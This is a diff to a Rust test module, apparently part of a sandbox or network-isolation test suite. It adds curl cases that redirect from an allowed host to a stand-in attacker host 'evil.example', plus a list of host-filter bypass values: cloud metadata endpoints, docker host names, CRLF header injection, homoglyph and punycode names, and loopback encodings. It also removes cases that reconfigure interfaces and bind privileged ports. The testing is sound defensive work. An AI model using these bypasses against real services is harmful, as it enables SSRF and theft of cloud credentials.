@@ -4,7 +4,7 @@
 
 use std::path::Path;
 
-use crate::case::{Case, Control, Sign, case, python, sh, sys, then};
+use crate::case::{Case, Control, Sign, case, python, sh};
 use crate::files::told;
 use crate::world::World;
 
@@ -12,7 +12,7 @@ use crate::world::World;
 pub(crate) fn cases(world: &World) -> Vec<Case> {
     let mut cases = direct(world);
     cases.extend(by_name(world));
-    cases.extend(own_network(world));
+    cases.extend(crate::reach::cases(world));
     cases
 }
 
@@ -175,7 +175,7 @@ fn neighbour_heard(world: &World, _: &crate::attacker::Outcome) -> Option<String
 }
 
 /// An address of this machine that is not its loopback.
-fn own_address() -> Option<String> {
+pub(crate) fn own_address() -> Option<String> {
     let mut ip = std::process::Command::new("hostname");
     ip.arg("-I");
     let said = wsm_tests::cli::run(ip, b"");
@@ -189,7 +189,9 @@ fn by_name(world: &World) -> Vec<Case> {
     let curl = |id: &str, arguments: &str| {
         sh(&format!(
             "curl -s --max-time 4 {}",
-            arguments.replace("ID", &format!("{id}-in{id}-out"))
+            arguments
+                .replace("ID", &format!("{id}-in{id}-out"))
+                .replace("HOP", &format!("{id}+in{id}+out"))
         ))
     };
     let raw = |id: &str, text: &str| {
@@ -227,8 +229,23 @@ fn by_name(world: &World) -> Vec<Case> {
         ),
         (
             "G19",
-            "by a redirect to it",
-            "-L http://evil.example:PORT/ID",
+            "by a redirect of an allowed host",
+            "-L http://allowed.example:PORT/hop/301/evil.example:PORT/HOP",
+        ),
+        (
+            "G19b",
+            "by another one",
+            "-L http://allowed.example:PORT/hop/302/evil.example:PORT/HOP",
+        ),
+        (
+            "G19c",
+            "by one that keeps the method",
+            "-L -d x http://allowed.example:PORT/hop/307/evil.example:PORT/HOP",
+        ),
+        (
+            "G19d",
+            "by one through the proxy",
+            "-L -x http://127.0.0.1:1023 http://allowed.example:PORT/hop/308/evil.example:PORT/HOP",
         ),
     ];
     let mut cases: Vec<_> = ways
@@ -283,6 +300,25 @@ fn by_name(world: &World) -> Vec<Case> {
         ("G13g", "evil.example\\r\\nhost: allowed.example"),
         ("G13h", "evil.example\\t"),
         ("G16", "inner.example"),
+        ("G16b", "metadata.google.internal"),
+        ("G16c", "169.254.169.254"),
+        ("G16d", "[fd00:ec2::254]"),
+        ("G26b", "host.docker.internal"),
+        ("G26c", "gateway.docker.internal"),
+        ("G14b", "EVIL.example."),
+        ("G14c", "evil\\xef\\xbc\\x8eexample"),
+        ("G14d", "xn--evil-.example"),
+        ("G15k", "127.0.0.1."),
+        ("G15l", "0"),
+        ("G15m", "[::ffff:7f00:1]"),
+        ("G15n", "[::]"),
+        ("G15o", "[::1%25lo]"),
+        ("G15p", "\\xe2\\x91\\xa027.0.0.1"),
+        ("G18d", "allowed.example.localhost"),
+        (
+            "G13i",
+            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.example",
+        ),
     ];
     for (id, host) in hosts {
         let text =
@@ -343,98 +379,4 @@ fn by_name(world: &World) -> Vec<Case> {
         ),
     );
     cases
-}
-
-fn own_network(world: &World) -> Vec<Case> {
-    let apart = Control::Apart;
-    let option = |level: i32, name: i32, value: &str| {
-        then(&[
-            sys(libc::SYS_socket, "2 1 0"),
-            sys(
-                libc::SYS_setsockopt,
-                &format!("%0 {level} {name} #{value} 4"),
-            ),
-        ])
-    };
-    let bind = |kind: i32, port: u16| {
-        then(&[
-            sys(libc::SYS_socket, &format!("2 {kind} 0")),
-            sys(libc::SYS_setsockopt, "%0 1 15 #01000000 4"),
-            sys(
-                libc::SYS_bind,
-                &format!("%0 #0200{port:04x}00000000{} 16", "00".repeat(8)),
-            ),
-        ])
-    };
-    let _ = world;
-    vec![
-        case(
-            "G35",
-            "an interface",
-            sh("ip link add wsm0 type veth"),
-            Sign::Look(zero),
-        )
-        .control(apart),
-        case(
-            "G35b",
-            "an address",
-            sh("ip addr add 10.9.9.9/24 dev lo"),
-            Sign::Look(zero),
-        )
-        .control(apart),
-        case(
-            "G35c",
-            "a route",
-            sh("ip link set lo up; ip route add 10.8.0.0/24 dev lo"),
-            Sign::Look(zero),
-        )
-        .control(apart),
-        case(
-            "G35d",
-            "a rule",
-            sh("ip rule add from all lookup 7"),
-            Sign::Look(zero),
-        )
-        .control(apart),
-        case("G35f", "a mark", option(1, 36, "01000000"), Sign::Success),
-        case(
-            "G35g",
-            "a foreign source",
-            option(0, 19, "01000000"),
-            Sign::Success,
-        ),
-        case(
-            "G35h",
-            "forced buffers",
-            option(1, 33, "00000010"),
-            Sign::Success,
-        ),
-        case(
-            "G35i",
-            "a high priority",
-            option(1, 12, "07000000"),
-            Sign::Success,
-        ),
-        case(
-            "G35j",
-            "the loopback down",
-            sh("ip link set lo down"),
-            Sign::Look(zero),
-        )
-        .control(apart),
-        case("G36", "take the port of names", bind(2, 53), Sign::Success).control(apart),
-        case("G36b", "take the port of TLS", bind(1, 443), Sign::Success).control(apart),
-        case(
-            "G36c",
-            "take the proxy's port",
-            bind(1, 1023),
-            Sign::Success,
-        )
-        .control(apart),
-        case("G36d", "take the port of HTTP", bind(1, 80), Sign::Success).control(apart),
-    ]
-}
-
-fn zero(_: &World, outcome: &crate::attacker::Outcome) -> Option<String> {
-    (outcome.last() == 0).then(|| outcome.detail())
 }
